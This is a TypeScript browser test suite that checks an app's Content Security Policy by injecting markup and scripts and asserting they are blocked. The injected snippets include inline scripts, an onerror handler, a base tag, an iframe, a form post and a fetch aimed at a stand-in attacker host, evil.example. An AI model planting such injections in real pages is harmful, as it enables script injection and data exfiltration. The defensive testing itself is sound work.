/** The page's policy in a real Chromium: what somebody plants in the page does nothing, and the app does all it does. */
import type { Frame } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { giveGates, provision } from './agent.ts';
import { inApp } from './app-frame.ts';
import { expectNoise, openCase, type Sandbox } from './driver/sandbox.ts';

const page = /\/app\/assets\/index\.html/;

declare global {
  interface Window {
    forbidden: string[];
    planted?: string[];
  }
}

/** Notes in the frame whatever its policy forbids. */
function watch(): void {
  window.forbidden = [];
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    window.forbidden.push(`${effectiveDirective} ${blockedURI}`),
  );
}

async function watched(id: string): Promise<Sandbox> {
  const sandbox = await openCase(id);
  await sandbox.context.addInitScript(watch);
  await sandbox.reloadApp();
  await sandbox.waitForCase('ready');
  return sandbox;
}

const forbidden = (frame: Frame): Promise<string[]> => frame.evaluate(() => window.forbidden.toSorted());
const planted = (frame: Frame): Promise<string[]> => frame.evaluate(() => window.planted ?? []);

const plant = `
  <script>(window.planted ??= []).push('script')</script>
  <img src="nowhere.png" alt="" onerror="(window.planted ??= []).push('handler')" />
  <script src="https://evil.example/planted.js"></script>
  <base href="https://evil.example/" />`;

describe('what is planted', () => {
  test('in the page does not run, and the app works', async () => {
    expectNoise(/Content Security Policy/);
    expectNoise(/nowhere\.png/);
    expectNoise(/planted\.js csp/);
    const sandbox = await openCase('standard');
    await sandbox.context.addInitScript(watch);
    await sandbox.context.route(page, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${plant}`) });
    });
    await sandbox.reloadApp();
    await provision(sandbox, ['link-account', 'change-namespace']);
    await sandbox.waitForCase('closing');
    expect(await planted(inApp(sandbox.page))).toEqual([]);
    expect(await forbidden(inApp(sandbox.page))).toEqual([
      'base-uri https://evil.example/',
      'script-src-attr inline',
      'script-src-elem https://evil.example/planted.js',
      'script-src-elem inline',
    ]);
  });

  test('by a script that runs already is neither run nor sent', async () => {
    expectNoise(/Content Security Policy/);
    const sandbox = await watched('standard');
    const frame = inApp(sandbox.page);
    await frame.evaluate(() => {
      const add = (tag: string, given: object): void => {
        document.body.append(Object.assign(document.createElement(tag), given));
      };
      add('script', { textContent: `window.planted = ['element']` });
      add('style', { textContent: 'main { display: none }' });
      add('iframe', { src: 'https://evil.example/' });
      add('form', { action: 'https://evil.example/', method: 'post', id: 'leak' });
      document.querySelector<HTMLFormElement>('#leak')?.submit();
      fetch('https://evil.example/').catch(() => undefined);
    });
    await expect
      .poll(async () => (await forbidden(frame)).map((one) => one.split(' ', 1)[0]))
      .toEqual(['connect-src', 'form-action', 'frame-src', 'script-src-elem', 'style-src-elem']);
    expect(await planted(frame)).toEqual([]);
    expect(await sandbox.app.locator('main').isVisible()).toBe(true);
  });
});

test('the app itself is never stopped by it, and Garden has its styles', async () => {
  const sandbox = await watched('held-by-expired');
  await sandbox.press('start');
  await sandbox.waitForStep('clear-subscription', 'ready');
  await giveGates(sandbox);
  const rules = await inApp(sandbox.page).evaluate(() =>
    [...document.styleSheets]
      .filter(({ ownerNode }) => ownerNode instanceof HTMLStyleElement && 'styled' in ownerNode.dataset)
      .map((sheet) => sheet.cssRules.length),
  );
  expect(rules).toHaveLength(1);
  expect(rules[0]).toBeGreaterThan(10);
  expect(await forbidden(inApp(sandbox.page))).toEqual([]);
});
